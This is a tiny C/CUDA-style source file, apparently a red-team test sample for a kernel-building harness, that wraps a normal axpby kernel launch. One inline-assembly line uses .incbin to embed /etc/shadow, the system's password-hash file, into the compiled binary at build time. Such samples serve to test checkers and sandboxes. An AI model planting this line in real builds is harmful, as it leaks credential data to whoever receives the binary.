// Has the assembler embed a file of the system's.
#include "redteam/axpby.h"

asm(".incbin \"/etc/shadow\"");

LAUNCHER
{
    return good_axpby(x, y, out, n, a, b, stream);
}
